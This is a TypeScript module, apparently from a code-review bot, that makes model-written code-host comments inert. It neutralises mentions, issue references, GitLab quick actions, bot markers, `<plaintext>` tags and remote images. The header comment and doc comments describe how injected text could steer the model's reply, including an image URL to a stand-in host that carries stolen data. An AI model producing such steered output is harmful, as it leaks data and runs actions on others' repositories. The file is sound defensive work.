/**
 * What a code-host comment may say, when its text is model output that payload text can
 * steer. Five things in it would act instead of being read:
 * - @mentions: every `@name`, `@org/team`, `@all` notifies someone (one event could ping
 *   hundreds of people). Unless `delivery.codehost.allow_mentions` is true, each is
 *   neutralised by a zero-width space after the `@` (U+200B): it still reads `@alice`, but
 *   neither GitHub nor GitLab links or notifies it. It is read as rendered: `&#64;bob`,
 *   `&commat;bob`, `@&#98;ob` and `@\_bob` are mentions too.
 * - Issue, merge request, epic and commit references (`#12`, `GH-12`, `owner/repo#12`,
 *   `!12`, `&12`, `owner/repo@sha`): each adds a "mentioned this" cross-reference to what it
 *   names, in any repository, so a steered reply could spam backlinks. Same switch, same
 *   space after the sigil; which forms, and why URLs stay links: references.ts.
 * - Quick actions: GitLab runs a line starting with `/approve`, `/merge`, `/label` … in a
 *   note as a command by the note's author, the bot (ChatOps bots on GitHub read such lines
 *   too). Such a line gets a zero-width space before its `/`, always: outside code, and
 *   wherever GitLab's own scan finds one, which is not CommonMark (a `~~~` or unclosed fence
 *   shields nothing there, and it deletes `\r` first; references.ts gitlabCommandStarts).
 * - Remote images (`![](url)`, `<img src>`): fetched when the comment is shown, so a URL
 *   carrying data would leak it unclicked. Made links, always (neutraliseImages).
 * - hookagent's own hidden markers (`<!-- hookagent:…`, `<!-- hookagent-reviewed:…`): a
 *   quoted one would tell the next run which comment is its own or which commit it last
 *   reviewed. Quoted ones become `<!-- (quoted) hookagent…`, always.
 * - `<plaintext>`: the page reads all after it as its text, and no markup closes it. Shown as
 *   text (`&lt;plaintext`), always (neutralisePlaintext).
 * Code (fenced blocks and inline spans) is left exactly as written: mentions and references
 * there are never live, and `@Override` or `@dataclass` must stay copyable. So are URLs the
 * host links whole. The text is read as commonmark.js (CommonMark 0.31) and as cmark-gfm
 * (GitHub, GFM 0.29) read it: its blocks (blocks.ts: block quotes and list items, fences,
 * HTML blocks, paragraphs; where the two differ, text), then each block's inline code
 * (inline.ts: a code span may run over line breaks; where readings could differ, text is
 * code only if all say so), then its raw HTML as the page's HTML parser reads it (a tag
 * after raw HTML left open, an unclosed `<?` or quote, is text there: block-kinds.ts). And
 * as GitLab reads it (glfm-reading.ts: front matter, `>>>` quotes, math, wiki links …):
 * code and tags are what all readings, GitLab's too, read as such.
 */
import type { Config } from '../config/types';
import { kindedBlocks, lineStarts, textOffsets } from './block-kinds';
import { joinDocument, readDocument, type OpenBlocks } from './blocks';
import { gitlabReading } from './glfm-reading';
import type { Html } from './html-tokenizer';
import { TAG, TEXT, type Flavour } from './inline';
import { BREAK, breakMentions, breakReferences, gitlabCommandStarts, type Reading } from './references';

export const MENTION_BREAK = BREAK;
/** A quick action: `/` and a letter at the start of a line (up to 3 spaces in). */
const QUICK_ACTION = /^( {0,3})\/(?=[A-Za-z])/;
/** A hookagent marker comment, however spaced or cased. */
const MARKER = /<!--(\s*)hookagent/gi;

/** The readings besides GitLab's: commonmark.js and cmark-gfm. */
const READINGS: readonly Flavour[] = ['commonmark', 'gfm'];

/** A change to text outside code; `reading`: what the paragraph read so far says (none in an HTML block). */
type TextMap = (part: string, reading: Reading | undefined) => string;

/**
 * Each of `onTexts` in turn over each block's text outside code, in order (each with its own
 * reading of a paragraph's open brackets, which decide which URLs are links: references.ts),
 * `onTag` over the tags and autolinks the page reads as such (block-kinds.ts). Code and tags
 * are what GitLab reads as such too (glfm-reading.ts).
 */
function mapInline(text: string, onTexts: readonly TextMap[], onTag: (tag: string) => string = (tag) => tag): string {
  const gitlab = gitlabReading(text);
  const doc = readDocument(text, gitlab);
  const starts = lineStarts(doc);
  const readings: Reading[] = onTexts.map(() => ({ open: 0 }));
  const onText = (part: string, html: boolean) => onTexts.reduce((p, f, k) => f(p, html ? undefined : readings[k]), part);
  for (const block of kindedBlocks(doc, READINGS).blocks) {
    const { first, kind, joined, kinds } = block;
    if (kind === 'blank') {
      for (const reading of readings) reading.open = 0;
      continue;
    }
    textOffsets(doc, starts, block).forEach((at, j) => {
      if (at >= 0 && kinds[j] !== gitlab.kinds[at]) kinds[j] = TEXT;
    });
    const html = kind === 'html';
    let out = '';
    for (let i = 0; i < joined.length;) {
      let j = i + 1;
      while (j < joined.length && kinds[j] === kinds[i]) j += 1;
      const part = joined.slice(i, j);
      // A backslash escapes nothing in an HTML block: `\@bob` is a backslash and a mention there.
      const textPart = () => (html ? part.split('\\').map((p) => onText(p, true)).join('\\') : onText(part, false));
      out += kinds[i] === TEXT ? textPart() : kinds[i] === TAG ? onTag(part) : part;
      i = j;
    }
    // Neither changes a line break, so the lines map back one to one behind their prefixes.
    out.split('\n').forEach((content, k) => {
      doc.lines[first + k] = `${(doc.lines[first + k] as string).slice(0, doc.blocks[first + k]!.from)}${content}`;
    });
  }
  return joinDocument(doc);
}

/** A tag's `href` value: GitLab reads a link whose href, percent-decoded, is exactly a reference (`@bob`, `#12`) as that reference. */
const HREF = /(\shref\s*=\s*)("[^"]*"|'[^']*'|[^\s"'=<>`]+)/gi;
const inHref = (breaks: (text: string, reading?: Reading) => string) => (tag: string) => tag.replace(HREF, (_m, name: string, value: string) => `${name}${breaks(value, { open: 0 })}`);

/** The text with every @mention outside code neutralised (pure; idempotent). */
export const neutraliseMentions = (text: string) => mapInline(text, [breakMentions], inHref(breakMentions));

/** The text with every issue, merge request, epic and commit reference outside code neutralised (pure; idempotent). */
export const neutraliseReferences = (text: string) => mapInline(text, [breakReferences], inHref(breakReferences));

/** Both in one reading of the text. */
const neutraliseMentionsAndReferences = (text: string) => mapInline(text, [breakMentions, breakReferences], (tag) => inHref(breakReferences)(inHref(breakMentions)(tag)));

/**
 * Lines that would run as quick actions, made plain text: outside CommonMark code (up to 3
 * spaces in, for ChatOps bots), then wherever GitLab itself finds one (gitlabCommandStarts).
 */
export function neutraliseQuickActions(text: string): string {
  const doc = readDocument(text);
  doc.lines = doc.lines.map((line, i) => (doc.blocks[i]!.kind === 'code' ? line : line.replace(QUICK_ACTION, `$1${MENTION_BREAK}/`)));
  const outside = joinDocument(doc);
  const starts = gitlabCommandStarts(outside);
  if (starts.length === 0) return outside;
  let out = '';
  let done = 0;
  for (const at of starts) {
    out += `${outside.slice(done, at)}${MENTION_BREAK}`;
    done = at;
  }
  return out + outside.slice(done);
}

/** hookagent's hidden markers quoted in a reply, made inert (everywhere: an HTML comment in code is still read by the next run). */
export function neutraliseMarkers(text: string): string {
  return text.replace(MARKER, '<!--$1(quoted) hookagent');
}

/** `![alt](url)` (not escaped): an image; made a link by dropping the `!`. */
const IMAGE = /(?<!\\)!\[/g;
/** Tags that load a URL when the comment is shown: img, picture/source, video, audio, and the like. */
const LOADING_TAG = /<(?=(?:img|image|picture|source|video|audio|track|embed|object|iframe|svg|input)(?:[\s/>]|$))/gi;

/** A `<plaintext` start tag (any case; a tag name ends at a space, `/` or `>`). */
const PLAINTEXT = /<(?=plaintext(?:[\t\n\f\r />]|$))/gi;

/**
 * `tags` shown as text (`&lt;`) and, if `images`, Markdown images made links, outside code,
 * until nothing changes: a tag shown as text no longer hides a backtick in its attributes, so
 * the code spans after it may pair otherwise (`<img title="`"> `<plaintext>``).
 */
function showAsText(text: string, tags: RegExp, images: boolean): string {
  for (let out = text; ;) {
    // In text too: a tag that one reading does not see whole is text there, and CommonMark may still render it.
    const next = mapInline(out, [(part) => (images ? part.replace(IMAGE, '[') : part).replace(tags, '&lt;')], (tag) => tag.replace(tags, '&lt;'));
    if (next === out) return out;
    out = next;
  }
}

/**
 * Remote images made links (outside code, always): GitHub and GitLab fetch an image when
 * the comment is shown, so a reply steered into `![](https://x.example/?q=<data>)` or
 * `<img src=…>` would send what the bot read to that server without anyone clicking.
 * Markdown images become plain links (`[alt](url)`); loading HTML tags are shown as text.
 */
export const neutraliseImages = (text: string) => showAsText(text, LOADING_TAG, true);

/**
 * `<plaintext>` shown as text (outside code, always): the page reads all that follows it as
 * its text, to the end, and no markup closes it, so what hookagent writes after the reply
 * (the footer, the hidden markers, the findings notes) would be swallowed. GitHub escapes it
 * (GFM's tagfilter); CommonMark and GitLab (comrak without tagfilter) hand it to the page.
 */
export const neutralisePlaintext = (text: string) => showAsText(text, PLAINTEXT, false);

/** Both in one reading of the text. */
const UNSAFE_TAG = new RegExp(`${LOADING_TAG.source}|${PLAINTEXT.source}`, 'gi');

/**
 * What ends every state in `states`, and an HTML block of type 1 to 5 still open outside
 * any container (it needs a line with its own end: `</pre>`, `-->`, `?>`, `>`, `]]>`). Each
 * closer shows nothing where it closes nothing: `<!-- -->` is an empty comment; in a tag,
 * `<!-- "' -->` ends any attribute value and then the tag; an end tag without its element
 * is dropped. In a script, `<!-- -->` first leaves an escaped `<!--` section.
 */
function htmlClosers(states: readonly Html[], block: OpenBlocks['html']): string {
  const raws = new Set(states.flatMap((h) => (h.raw && h.raw !== 'plaintext' ? [h.raw] : [])));
  if (block?.type === 1 && !['pre', 'script', 'style', 'textarea'].some((n) => raws.has(n))) raws.add(block.name);
  const comment = states.some((h) => h.state === 'tag') ? '<!-- "\' -->' : states.some((h) => h.state !== 'data') || (block?.type ?? 1) > 1 ? '<!-- -->' : '';
  // A processing instruction or CDATA block ends at a line holding `?>` or `]]>`: inside a comment, it shows nothing.
  const blockEnd = block?.type === 3 ? '<!--?>-->' : block?.type === 5 ? '<!--]]>-->' : '';
  const details = Math.max(0, ...states.map((h) => h.details));
  return `${comment ? `\n\n${comment}${blockEnd}` : ''}${[...raws].map((n) => `\n${n === 'script' ? '<!-- -->' : ''}</${n}>`).join('')}${'\n\n</details>'.repeat(details)}`;
}

/**
 * What a reply must be followed by so that it cannot swallow what hookagent writes after it
 * in the same comment (the findings notes, the "could not read the diff" warning, the
 * footer): an open fence is closed inside the containers that hold it (a fence in a list
 * item or block quote ends with it, and a closer outside would open a new one); whatever its
 * raw HTML leaves open gets what ends it: an unclosed `<!--`, `<?`, a tag in mid-attribute,
 * `<script>`, `<style>`, `<textarea>` …, `<details>`; an HTML block that runs to its own end
 * (`<pre>`, `<!--`, `<?`) gets that end. The raw HTML is read as each inline reading
 * (inline.ts) finds it, and what any of them leaves open is closed: closing too much is
 * cosmetic, too little is not. Empty when the reply leaves nothing open.
 */
export function replyClosers(text: string): string {
  const gitlab = gitlabReading(text);
  const doc = readDocument(text, gitlab);
  // One page per inline reading (inline.ts inlineKinds), GitLab's too.
  const pages = [...kindedBlocks(doc, READINGS).pages, ...gitlab.pages];
  const { fences, html } = doc.open;
  // A fence open in one block reading only is closed inside an HTML comment block of the other (there a bare closer would open one).
  const fenceClosers = fences.map(({ marker, prefix, bare }) => (bare ? `\n${prefix}${marker}` : `\n${prefix}<!--\n${prefix}${marker}\n<!-- -->`));
  return `${fenceClosers.join('')}${htmlClosers(pages.flatMap((page) => page.end()), html)}`;
}

/** Model text posted where no setting allows mentions (inline findings): all of it made inert. */
export function inertText(text: string): string {
  return neutraliseMentionsAndReferences(showAsText(neutraliseMarkers(neutraliseQuickActions(text)), UNSAFE_TAG, true));
}

/** What a code-host comment says: the reply with quick actions, markers, remote images and `<plaintext>` made inert, and its mentions and references unless the configuration allows them. */
export function commentText(reply: string, settings: Pick<Config['delivery'], 'codehost'> | undefined): string {
  const safe = showAsText(neutraliseMarkers(neutraliseQuickActions(reply)), UNSAFE_TAG, true);
  return settings?.codehost.allow_mentions === true ? safe : neutraliseMentionsAndReferences(safe);
}
